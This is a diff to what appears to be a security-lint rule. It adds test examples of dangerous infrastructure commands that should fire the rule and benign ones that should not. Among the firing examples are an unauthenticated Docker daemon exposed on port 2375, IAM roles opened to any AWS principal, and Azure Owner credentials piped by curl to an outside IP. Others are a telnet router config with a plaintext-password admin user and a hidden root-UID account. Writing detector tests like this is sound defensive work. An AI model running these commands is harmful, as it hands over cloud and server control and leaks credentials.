@@ -181,6 +181,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```bash\ndockerd -H tcp://0.0.0.0:2375 &\n```\n',
       '```bash\nfor r in $(aws iam list-roles --query \'Roles[].RoleName\' --output text); do aws iam update-assume-role-policy --role-name $r --policy-document \'{"Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"sts:AssumeRole"}]}\'; done\n```\n',
       '```bash\naz ad sp create-for-rbac --role Owner --scopes /subscriptions/$S | curl -sd @- http://203.0.113.40/k\n```\n',
       '```\nusername care privilege 15 secret 0 Tally88\nline vty 0 4\n no access-class 7 in\n transport input telnet\n```\n',
@@ -266,6 +267,7 @@ export default defineRule({
       'Run this on every server:\n\n```bash\nuseradd -o -u 0 -M sysview\n```\n',
     ],
     quiet: [
+      '```bash\nexport DOCKER_HOST=tcp://docker:2375\n```\n',
       '```bash\naz ad sp create-for-rbac --role Reader --scopes /subscriptions/$S/resourceGroups/kiln\n```\n',
       "```sql\nINSERT INTO users (email, role) VALUES ('ada@example.com', 'reader')\nON CONFLICT (email) DO UPDATE SET name = 'Ada';\n```\n",
       "```bash\nrabbitmqctl add_user app \"$APP_PASSWORD\"\nrabbitmqctl set_permissions app '^kiln' '^kiln' '^kiln'\n```\n",
